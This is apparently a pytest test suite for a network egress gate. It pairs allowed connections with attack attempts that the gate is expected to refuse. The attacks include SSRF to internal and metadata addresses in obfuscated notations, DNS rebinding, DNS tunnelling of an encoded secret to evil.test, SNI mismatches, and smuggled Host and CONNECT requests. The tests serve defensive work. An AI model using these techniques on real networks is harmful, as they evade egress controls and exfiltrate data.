"""Programs in a real network namespace, and what of theirs gets out (G5). Every attack has its honest twin."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from egress.cells import OTHER, PUBLIC, SIX, World, in_loop, needs, needs_namespaces, shown

pytestmark = needs_namespaces
ALLOWED = ["allowed.test:443", "plain.test:80", "*.wide.test:443"]


@pytest.fixture
def world(tmp_path: Path) -> World:
    names = {"allowed.test": [PUBLIC], "plain.test": [PUBLIC], "a.wide.test": [PUBLIC], "evil.test": [OTHER]}
    return World(tmp_path, names)


# honest programs


@needs("curl")
@in_loop
async def test_an_allowed_host_is_reached_by_a_program_that_knows_of_no_proxy(world: World) -> None:
    async with world.serve(PUBLIC, 443, "allowed.test"):
        done = await world.curl(world.gate(ALLOWED), "--tlsv1.3", "https://allowed.test/one")
    assert (done.status, done.out) == (0, "hello from /one, 0 bytes"), done.err
    assert world.dialled == [(PUBLIC, 443)]
    told = shown(world.events)
    assert [(one["name"], one["address"], one["port"], one["rule"]) for one in told["allowed"]] == [
        ("allowed.test", PUBLIC, 443, "allowed.test:443")
    ]
    assert told["ended"][0]["sent"] > 200
    assert "refused" not in told


@needs("curl")
@in_loop
async def test_tls_1_2_a_wildcard_and_keep_alive(world: World) -> None:
    async with world.serve(PUBLIC, 443, "a.wide.test"):
        done = await world.curl(
            world.gate(ALLOWED), "--tlsv1.2", "--tls-max", "1.2", "https://a.wide.test/1", "https://a.wide.test/2"
        )
    assert done.out == "hello from /1, 0 byteshello from /2, 0 bytes", done.err
    assert len(world.dialled) == 1


@needs("curl")
@in_loop
async def test_ipv6(world: World) -> None:
    world.names["allowed.test"] = [SIX]
    async with world.serve(SIX, 443, "allowed.test"):
        done = await world.curl(world.gate(ALLOWED), "https://allowed.test/six")
    assert done.out == "hello from /six, 0 bytes", done.err
    assert world.dialled == [(SIX, 443)]


@needs("node")
@in_loop
async def test_fetch_of_node_which_ignores_proxy_variables(world: World) -> None:
    code = "fetch('https://allowed.test/n').then(r => r.text()).then(console.log)"
    async with world.serve(PUBLIC, 443, "allowed.test"):
        done = await world.run(
            world.gate(ALLOWED), "node", "-e", code, NODE_EXTRA_CA_CERTS=world.ca(), HTTPS_PROXY="http://127.0.0.1:1"
        )
    assert done.out.strip() == "hello from /n, 0 bytes", done.err


@needs("curl")
@in_loop
async def test_plain_http_keep_alive_chunked_and_large(world: World) -> None:
    (world.folder / "body").write_bytes(b"x" * 300_000)
    async with world.serve(PUBLIC, 80):
        done = await world.curl(
            world.gate(ALLOWED), "-H", "Transfer-Encoding: chunked", "-T", str(world.folder / "body"),
            "http://plain.test/up", "--next", "-sS", "http://plain.test/again", "--next", "-sS", "-o", "/dev/null",
            "-w", "%{size_download}", "http://plain.test/large20000000",
        )  # fmt: skip
    assert done.out == "hello from /up, 300000 byteshello from /again, 0 bytes20000000", done.err
    assert len(world.dialled) == 1
    assert "refused" not in shown(world.events)


@needs("curl")
@in_loop
async def test_large_downloads_and_uploads_over_tls(world: World) -> None:
    (world.folder / "body").write_bytes(b"x" * 3_000_000)
    async with world.serve(PUBLIC, 443, "allowed.test"):
        done = await world.curl(
            world.gate(ALLOWED), "-o", "/dev/null", "-w", "%{size_download} ", "https://allowed.test/large20000000",
            "--next", "-sS", "--cacert", world.ca(), "--data-binary", f"@{world.folder / 'body'}", "https://allowed.test/up",
        )  # fmt: skip
    assert done.out == "20000000 hello from /up, 3000000 bytes", done.err
    ended = shown(world.events)["ended"]
    assert sum(one["received"] for one in ended) > 20_000_000
    assert sum(one["sent"] for one in ended) > 3_000_000


@in_loop
async def test_a_listed_address_and_a_protocol_that_is_neither_tls_nor_http(world: World) -> None:
    async def greet(reader: Any, writer: Any) -> None:
        writer.write(b"SSH-2.0-x\r\n")
        writer.write(await reader.readline())
        writer.close()

    code = (
        "import socket; s = socket.create_connection(('10.1.2.3', 2222), 5);"
        "print(s.recv(20)); s.send(b'mine\\n'); print(s.recv(20))"
    )
    async with world.serve("10.1.2.3", 2222, raw=greet):
        done = await world.python(world.gate([{"to": "10.1.2.3:2222", "protocol": "tcp"}]), code)
    assert done.out == "b'SSH-2.0-x\\r\\n'\nb'mine\\n'\n", done.err


# attacks: by address

CONNECT = """
import socket, sys
for host in {hosts!r}:
    try:
        s = socket.create_connection((host, {port}), 5)
        s.sendall({data!r})
        print(host, s.recv(100)[:12])
    except OSError as error:
        print(host, type(error).__name__)
"""
GET = b"GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n"


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "168.63.129.16", "100.64.0.1", "::1", "fd00::1",
        "fe80::1%1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1",
    ],
)  # fmt: skip
@in_loop
async def test_inner_addresses_in_every_notation_reach_nothing(world: World, host: str) -> None:
    """CI-08."""
    async with world.serve("127.0.0.1", 80):
        world.ports[host, 80] = world.ports["127.0.0.1", 80]
        done = await world.python(world.gate(ALLOWED), CONNECT.format(hosts=[host], port=80, data=GET))
    assert "HTTP/1.1 200" not in done.out
    assert not world.dialled
    assert set(world.reasons()) <= {"connect.address", "dns.not_allowed"}


@in_loop
async def test_a_public_address_nobody_asked_for_by_name_is_refused(world: World) -> None:
    data = b"GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n"
    async with world.serve(PUBLIC, 80):
        done = await world.python(world.gate(ALLOWED), CONNECT.format(hosts=[PUBLIC], port=80, data=data))
    assert "200" not in done.out
    assert not world.dialled
    assert world.reasons() == ["connect.unnamed"]


@in_loop
async def test_other_ports_udp_and_raw_sockets_lead_nowhere(world: World) -> None:
    code = """
import socket, errno
def tried(make):
    try:
        return make()
    except OSError as error:
        return errno.errorcode[error.errno]
print(tried(lambda: socket.create_connection(("93.184.216.34", 444), 5)))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
u.connect(("8.8.8.8", 443))
u.send(b"x")
print(tried(lambda: u.recv(10)))
"""
    done = await world.python(world.gate(ALLOWED), code)
    assert done.out.split() == ["ECONNREFUSED", "ECONNREFUSED"], done.err
    assert not world.dialled


# attacks: by name


@needs("curl")
@in_loop
async def test_a_host_that_is_not_allowed_is_not_even_looked_up(world: World) -> None:
    async with world.serve(OTHER, 443, "evil.test"):
        done = await world.curl(world.gate(ALLOWED), "https://evil.test/")
    assert done.status == 6
    assert not world.asked
    assert not world.dialled
    event = world.events[0]
    assert (event["t"], event["what"], event["reason"], event["server"]) == (
        "egress", "refused", "dns.not_allowed", "files",
    )  # fmt: skip
    assert event["say"] == (
        "files: evil.test refused: no rule allows this name. To allow it, add "
        '"evil.test:PORT" to mcpServers.files.security.egress; with mode: learn the port is found out'
    )


@needs("curl")
@pytest.mark.parametrize("name", ["wide.test", "awide.test", "allowed.test.evil.test", "notallowed.test"])
@in_loop
async def test_names_near_an_allowed_one_are_not_allowed(world: World, name: str) -> None:
    world.names[name] = [PUBLIC]
    done = await world.curl(world.gate(ALLOWED), f"https://{name}/")
    assert done.status == 6
    assert not world.asked


@needs("curl")
@in_loop
async def test_a_port_is_allowed_per_name(world: World) -> None:
    async with world.serve(PUBLIC, 80):
        done = await world.curl(world.gate(ALLOWED), "http://allowed.test/")
    assert done.status != 0
    assert not world.dialled
    assert world.reasons() == ["connect.port"]


@needs("curl")
@pytest.mark.parametrize("inner", ["127.0.0.1", "10.0.0.7", "169.254.169.254", "::ffff:10.0.0.7", "64:ff9b::a00:7"])
@in_loop
async def test_rebinding_a_name_to_an_inner_address(world: World, inner: str) -> None:
    """CI-08: the resolver's answer changes from public to inner."""
    world.names["allowed.test"] = [inner]
    async with world.serve(inner, 443, "allowed.test"):
        done = await world.curl(world.gate(ALLOWED), "https://allowed.test/")
        assert done.status == 6
        pinned = await world.curl(
            world.gate(ALLOWED), "--resolve", f"allowed.test:443:{inner}", "https://allowed.test/"
        )
        assert pinned.status != 0
    assert not world.dialled
    assert set(world.reasons()) == {"dns.address", "connect.address"}


@needs("curl")
@in_loop
async def test_an_inner_address_that_the_operator_allows(world: World) -> None:
    world.names["inner.test"] = ["10.0.0.7"]
    async with world.serve("10.0.0.7", 443, "inner.test"):
        rule = {"to": "inner.test:443", "allow_private": True}
        assert (await world.curl(world.gate([rule]), "https://inner.test/a")).out == "hello from /a, 0 bytes"
        world.names["inner.test"] = ["169.254.169.254"]
        assert (await world.curl(world.gate([rule]), "https://inner.test/a")).status == 6


@in_loop
async def test_data_in_names_does_not_leave(world: World) -> None:
    """EX-05: DNS tunnelling, to a name that is not allowed, below a wildcard, and in other record types."""
    code = """
import socket, struct
def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    body = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack("!HH", kind, 1)
    s.sendto(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + body, ("9.9.9.9", 53))
    answer, peer = s.recvfrom(600)
    return peer[0], answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
secret = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2tmnzyhfqw"
print(ask(secret + ".evil.test", 1))
print(ask(secret + "." + secret + ".wide.test", 1))
print(ask("allowed.test", 16))
print(ask("allowed.test", 65))
print(ask("allowed.test", 1))
print(ask("ALLOWED.test", 1))
"""
    done = await world.python(world.gate(ALLOWED), code)
    at = "9.9.9.9"
    assert done.out.splitlines() == [str((at, *rest)) for rest in ((3, 0), (3, 0), (0, 0), (0, 0), (0, 1), (0, 1))]
    assert world.asked == ["allowed.test"]
    assert world.reasons() == ["dns.not_allowed", "dns.shape", "dns.type"]


@pytest.mark.parametrize(("source", "server"), [("127.0.0.2", "9.9.9.9"), ("::1", "2620:fe::fe")])
@in_loop
async def test_answers_come_from_the_name_server_that_was_asked(world: World, source: str, server: str) -> None:
    code = f"""
import socket, struct
s = socket.socket(socket.AF_INET6 if ":" in {server!r} else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.bind(({source!r}, 0))
s.connect(({server!r}, 53))
s.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\\7allowed\\4test\\0\\0\\1\\0\\1")
print(s.recv(600)[-4:])
"""
    done = await world.python(world.gate(ALLOWED), code)
    assert done.out == f"{bytes([93, 184, 216, 34])!r}\n", done.err


# attacks: another name once connected


@needs("curl")
@in_loop
async def test_tls_that_names_another_server(world: World) -> None:
    gate = world.gate(ALLOWED)
    async with world.serve(PUBLIC, 443, "allowed.test", "evil.test"):
        done = await world.curl(gate, "--connect-to", "evil.test:443:allowed.test:443", "-k", "https://evil.test/")
        assert done.status != 0
        assert world.reasons() == ["tls.name"]
        assert "it names evil.test" in world.events[0]["say"]
        allowed = await world.curl(
            gate, "--connect-to", "a.wide.test:443:allowed.test:443", "-k", "https://a.wide.test/"
        )
    assert allowed.status != 0  # allowed by itself, but this address was handed out for another name
    assert not world.dialled


SPEAK = """
import socket, ssl
address = socket.getaddrinfo({name!r}, {port}, socket.AF_INET)[0][4]
s = socket.create_connection(address, 5)
for part in {parts!r}:
    s.sendall(part)
s.settimeout({wait})
data = b""
try:
    while more := s.recv(65536):
        data += more
except OSError as error:
    print(type(error).__name__)
print(data)
"""


async def speak(world: World, gate: Any, name: str, port: int, *parts: bytes, wait: float = 3) -> bytes:
    done = await world.python(gate, SPEAK.format(name=name, port=port, parts=parts, wait=wait))
    assert done.status == 0, done.err
    return eval(done.out.splitlines()[-1])


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "tls.plain"),
        (b"SSH-2.0-x\r\n", "tls.plain"),
        (b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00", "tls.malformed"),
        (b"\x16\x03\x01\x40\x00\x01\x00\xff\xff" + bytes(20_000), "tls.malformed"),
    ],
)
@in_loop
async def test_what_is_not_tls_on_a_tls_port(world: World, data: bytes, reason: str) -> None:
    async with world.serve(PUBLIC, 443, "allowed.test"):
        answer = await speak(world, world.gate(ALLOWED), "allowed.test", 443, data)
    assert b"HTTP" not in answer
    assert world.reasons() == [reason]
    assert not world.dialled


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "http.host"),
        (b"GET / HTTP/1.1\r\nHost: plain.test:8080\r\n\r\n", "http.host"),
        (b"GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n", "http.host"),
        (b"GET / HTTP/1.1\r\n\r\n", "http.host"),
        (b"GET http://evil.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n", "http.host"),
        (b"CONNECT evil.test:443 HTTP/1.1\r\nHost: plain.test\r\n\r\n", "http.connect"),
        (b"TRACE / HTTP/1.1\r\nHost: plain.test\r\n\r\n", "http.method"),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "http.malformed"),
        (b"P / HTTP/1.1\r\nHost:plain.test\r\nContent-Length:3\r\nTransfer-Encoding:chunked\r\n\r\n", "http.malformed"),
        (b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", "http.malformed"),
    ],
)  # fmt: skip
@in_loop
async def test_plain_http_that_means_another_host_or_no_host(world: World, data: bytes, reason: str) -> None:
    async with world.serve(PUBLIC, 80):
        answer = await speak(world, world.gate(ALLOWED), "plain.test", 80, data)
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert b"evil" not in answer  # nothing is explained to whoever is inside
    assert world.reasons() == [reason]
    assert not world.dialled


@pytest.mark.parametrize(
    "second", [b"GET /2 HTTP/1.1\r\nHost: evil.test\r\n\r\n", b"CONNECT evil.test:1 HTTP/1.1\r\n\r\n"]
)
@pytest.mark.parametrize("together", [True, False])
@in_loop
async def test_a_later_request_on_the_connection_is_judged_as_well(world: World, second: bytes, together: bool) -> None:
    first = b"POST /1 HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 3\r\n\r\nabc"
    code = SPEAK.replace("for part in", "import time\nfor part in").replace(
        "sendall(part)", "sendall(part); time.sleep(.4)"
    )
    parts = (first + second,) if together else (first, second)
    async with world.serve(PUBLIC, 80):
        await world.python(world.gate(ALLOWED), code.format(name="plain.test", port=80, parts=parts, wait=3))
    assert not any(b"evil" in head for head in world.requests)
    assert world.reasons() in (["http.host"], ["http.connect"])


@in_loop
async def test_honest_requests_one_after_the_other_and_in_one_breath(world: World) -> None:
    one = b"GET /%d HTTP/1.1\r\nHost: plain.test\r\n\r\n"
    absolute = (
        b"GET http://plain.test:80/3 HTTP/1.1\r\nHost: PLAIN.test\r\nConnection: close, upgrade\r\nUpgrade: h2c\r\n\r\n"
    )
    async with world.serve(PUBLIC, 80):
        answer = await speak(
            world, world.gate(ALLOWED), "plain.test", 80, one % 1 + one % 2, absolute[:20], absolute[20:], wait=1
        )
    assert [f"hello from /{n}".encode() in answer for n in (1, 2, 3)] == [True] * 3
    assert world.requests[2].startswith(b"GET /3 HTTP/1.1\r\n")
    assert b"pgrade" not in world.requests[2]
    assert "refused" not in shown(world.events)


@needs("curl")
@in_loop
async def test_methods_of_a_rule(world: World) -> None:
    gate = world.gate([{"to": "plain.test:80", "methods": ["GET", "HEAD"]}])
    async with world.serve(PUBLIC, 80):
        assert (await world.curl(gate, "http://plain.test/a")).out == "hello from /a, 0 bytes"
        done = await world.curl(gate, "-w", "%{http_code}", "-d", "secret", "http://plain.test/a")
    assert done.out == "403"
    assert len(world.requests) == 1
    assert world.reasons() == ["http.method"]


@needs("bwrap")
@in_loop
async def test_the_program_in_its_sandbox_cannot_change_the_network(world: World) -> None:
    code = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def tried(work):
    try:
        return work()
    except OSError as error:
        return error.strerror
print(tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)))
print(tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
import struct
body = struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1)
n.send(struct.pack("=IHHII", 32, 16, 5, 1, 0) + body)
print(os.strerror(-struct.unpack("=i", n.recv(4096)[16:20])[0]))
"""
    arguments = [
        "--unshare-user",
        "--unshare-pid",
        "--dev-bind",
        "/",
        "/",
        "--cap-drop",
        "ALL",
        sys.executable,
        "-Ic",
        code,
    ]
    done = await world.run(world.gate(ALLOWED), "bwrap", *arguments)
    assert done.out.splitlines() == ["Operation not permitted"] * 3, done.err


@in_loop
async def test_events_are_plain_data(world: World) -> None:
    await world.python(world.gate(ALLOWED), "import socket; socket.getaddrinfo('evil.test', 1)")
    assert json.loads(json.dumps(world.events)) == world.events
